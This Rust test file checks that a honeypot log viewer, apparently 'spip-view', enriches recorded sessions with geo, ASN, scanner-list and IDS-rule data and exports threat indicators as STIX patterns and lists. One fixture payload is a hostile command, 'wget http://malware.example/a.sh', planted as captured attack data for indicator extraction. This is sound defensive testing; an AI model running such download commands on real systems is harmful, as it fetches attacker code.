//! What records mean, looked up when they arrive and again by `retag`.

use std::path::Path;
use std::process::Command;

use crate::support::{Scratch, View, append, hex, lines, report};

/// Rules, lists and data on addresses of an operator.
fn enrichment(directory: &Path) {
    for name in ["geo", "scanners", "rules"] {
        std::fs::create_dir_all(directory.join(name)).unwrap();
    }
    std::fs::write(directory.join("geo/asn.csv"), "128.0.0.0,128.0.0.255,64500,Example Net\n").unwrap();
    std::fs::write(directory.join("geo/country.csv"), "128.0.0.0,128.0.0.255,SE\n").unwrap();
    std::fs::write(directory.join("scanners/survey.txt"), "# kind: research\n128.0.0.1\n").unwrap();
    let rule = "alert tcp any any -> any any (msg:\"Greeting with 7\"; content:\"hi \"; content:\"7\"; \
                reference:cve,2026-0007; classtype:attempted-admin; sid:1000007; rev:1;)\n";
    std::fs::write(directory.join("rules/own.rules"), rule).unwrap();
}

/// Lines of sources that are looked up: addresses of documentation have no owner.
fn public(from: u64, to: u64) -> String {
    lines(from, to, Some("a")).replace("198.51.100.", "128.0.0.")
}

#[test]
fn data_and_rules_are_looked_up_when_records_arrive_and_again_by_retag() {
    let scratch = Scratch::new("enrich");
    let (log, state, data) = (scratch.0.join("spip.json"), scratch.0.join("state"), scratch.0.join("data"));
    let with = |name: &str| data.join(name).to_str().unwrap().to_owned();
    append(&log, &public(1, 101));
    let plain = ["--log", log.to_str().unwrap(), "--state-dir", state.to_str().unwrap()];
    let view = View::start(&plain);
    view.wait_for(100);
    let countries = view.get("/api/v1/countries?range=all");
    assert_eq!((&countries["has_data"], &countries["unknown"]), (&false.into(), &100.into()));
    drop(view);

    enrichment(&data);
    let named = ["--geo", &with("geo"), "--scanners", &with("scanners"), "--rules", &with("rules")];
    let output = Command::new(env!("CARGO_BIN_EXE_spip-view"))
        .args(["retag", "--state-dir", state.to_str().unwrap()])
        .args(named)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(String::from_utf8_lossy(&output.stderr).contains("2026-01-01: 100 sessions, day 1 of 1"));

    // What came before is tagged by that, what comes now when it comes: both count alike.
    append(&log, &public(101, 201));
    let arguments: Vec<&str> = plain.iter().copied().chain(named).collect();
    let view = View::start(&arguments);
    view.wait_for(200);
    let total = |query: &str| {
        view.get(&format!("/api/v1/search?range=all&limit=1&q={query}"))["total"]["value"].as_u64().unwrap()
    };
    let sevens = (1..201_u64).filter(|seq| seq.to_string().contains('7')).count() as u64;
    for query in ["tag:1000007", "tag~greeting", "cve:CVE-2026-0007", "cve:cve-2026-0007", "greeting"] {
        assert_eq!(total(query), sevens, "{query}");
    }
    for query in ["country:SE", "country:se", "asn:64500", "asn:AS64500", "network~example"] {
        assert_eq!(total(query), 200, "{query}");
    }
    assert_eq!(total("scanner:survey"), 40);
    let tags = view.get("/api/v1/tags?range=all");
    assert_eq!(tags["tags"][0]["connections"], sevens);
    assert_eq!(tags["tags"][0]["cve"][0], "CVE-2026-0007");
    assert_eq!(tags["cves"]["items"][0]["count"], sevens);
    assert_eq!(view.get("/api/v1/countries?range=all")["countries"][0]["count"], 200);
    let networks = view.get("/api/v1/networks?range=all");
    assert_eq!(networks["networks"]["items"][0]["label"], "AS64500 Example Net");
    assert_eq!(networks["scanners"]["items"][0]["count"], 40);

    // One switch leaves the scanner out of every number.
    assert_eq!(view.get("/api/v1/search?range=all&without=listed")["total"]["value"], 160);
    assert_eq!(view.get("/api/v1/sources?range=all&without=listed")["total"]["value"], 4);
    let left = view.get("/api/v1/tags?range=all&without=listed")["tags"][0]["connections"].as_u64().unwrap();
    let listed = (1..201_u64).filter(|seq| seq.to_string().contains('7') && seq % 5 == 1).count() as u64;
    assert_eq!(left, sevens - listed);

    // New shows tags first.
    assert_eq!(view.get("/api/v1/new?range=all")["sections"][0]["kind"], "tag");
    drop(view);
    let report = report(&["--state-dir", state.to_str().unwrap()]);
    assert_eq!(report["top"]["tags"][0]["count"], sevens);
    assert_eq!(report["top"]["countries"][0]["value"], "SE");
}

/// A line of a half-open scan of port 8080, as the agent writes it; `number` makes source and time.
fn half_open(number: u64) -> String {
    let time = format!("2026-01-01T00:00:{number:02}.222426Z");
    format!(
        "{{\"timestamp\":{},\"record_type\":\"scan\",\"schema\":\"spip/1\",\"name\":\"test\",\"run\":\"b\",\"time\":\"{time}\",\
         \"source_ip\":\"128.0.1.{number}\",\"count\":300,\"first_time\":\"{time}\",\"last_time\":\"{time}\",\
         \"destination_ports\":[\"8080\"],\"destination_port_count\":1,\"destination_ips\":[\"192.0.2.1\"],\"destination_ip_count\":1,\
         \"source_port_min\":56879,\"source_port_max\":56879,\"tools\":[{{\"tool\":\"masscan\",\"count\":300}}],\"syn_variants\":1,\
         \"syn\":{{\"ttl\":255,\"window\":1024,\"options\":[],\"muonfp\":\"1024:::\",\"p0f\":\"4:255+0:0:0:1024,0:::0\",\"tools\":[\"masscan\"]}},\
         \"seq\":{number}}}\n",
        1_767_225_600 + number
    )
}

#[test]
fn indicators_have_sources_of_attacks_and_no_source_of_a_half_open_scan() {
    let scratch = Scratch::new("indicators");
    let (log, state, rules) = (scratch.0.join("spip.json"), scratch.0.join("state"), scratch.0.join("own.rules"));
    // The second rule has no condition on a payload: it would match any record of the sources that scan.
    std::fs::write(
        &rules,
        "alert tcp any any -> any any (msg:\"Greeting with 7\"; content:\"hi \"; content:\"7\"; classtype:attempted-admin; sid:1000007; rev:1;)\n\
         alert ip [128.0.1.0/24] any -> any any (msg:\"Listed\"; classtype:attempted-admin; sid:1000008; rev:1;)\n",
    )
    .unwrap();
    // The payload of session 17 names a host to download from. Source 128.0.1.2 scans, and then connects, too.
    let download = "hi 7 wget http://malware.example/a.sh";
    let sessions = public(1, 21).replace("\"payload\":\"hi 17\"", &format!("\"payload\":\"{download}\"")).replace(
        &format!("\"payload_hex\":\"{}\"", hex(b"hi 17")),
        &format!("\"payload_hex\":\"{}\"", hex(download.as_bytes())),
    );
    let connected = lines(21, 22, Some("a")).replace("198.51.100.1", "128.0.1.2");
    append(&log, &(sessions + &(1..6).map(half_open).collect::<String>() + &connected));
    let (log, state, rules) = (log.to_str().unwrap(), state.to_str().unwrap(), rules.to_str().unwrap());
    let view = View::start(&["--log", log, "--state-dir", state, "--rules", rules]);
    view.wait_for(21);

    // The scans were read: all five sources, of which one has connected.
    let scans = view.get("/api/v1/scans?range=all");
    assert_eq!(scans["sources"]["value"], 5, "{scans}");
    let connected = |line: &&serde_json::Value| line["has_connected"] == true;
    assert_eq!(scans["latest"].as_array().unwrap().iter().filter(connected).count(), 1, "{scans}");

    // Sessions 7 and 17 match the first rule, session 21 the second.
    let listed = view.text("/api/v1/indicators?range=all&format=sources");
    assert_eq!(listed.lines().collect::<Vec<_>>(), ["128.0.0.2", "128.0.1.2"]);
    assert_eq!(view.text("/api/v1/indicators?range=all&format=urls").trim(), "http://malware.example/a.sh");
    let bundle = view.get("/api/v1/indicators?range=all");
    let mut patterns: Vec<_> =
        bundle["objects"].as_array().unwrap().iter().filter_map(|object| object["pattern"].as_str()).collect();
    patterns.sort_unstable();
    assert_eq!(
        patterns,
        [
            "[domain-name:value = 'malware.example']",
            "[ipv4-addr:value = '128.0.0.2']",
            "[ipv4-addr:value = '128.0.1.2']",
            "[url:value = 'http://malware.example/a.sh']"
        ]
    );
    for form in ["stix", "urls", "hosts", "hashes", "sources"] {
        let text = view.text(&format!("/api/v1/indicators?range=all&format={form}"));
        for source in [1, 3, 4, 5] {
            assert!(!text.contains(&format!("128.0.1.{source}")), "{form}: {text}");
        }
    }
}
